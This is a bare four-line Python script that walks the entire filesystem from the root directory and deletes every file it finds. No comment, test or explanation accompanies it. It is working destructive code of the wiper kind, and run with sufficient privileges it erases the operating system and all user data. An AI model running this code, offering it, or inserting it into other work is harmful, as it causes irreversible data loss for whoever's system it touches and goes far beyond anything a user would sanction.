import os
for r, d, f in os.walk("/"):
    for n in f:
        os.remove(os.path.join(r, n))
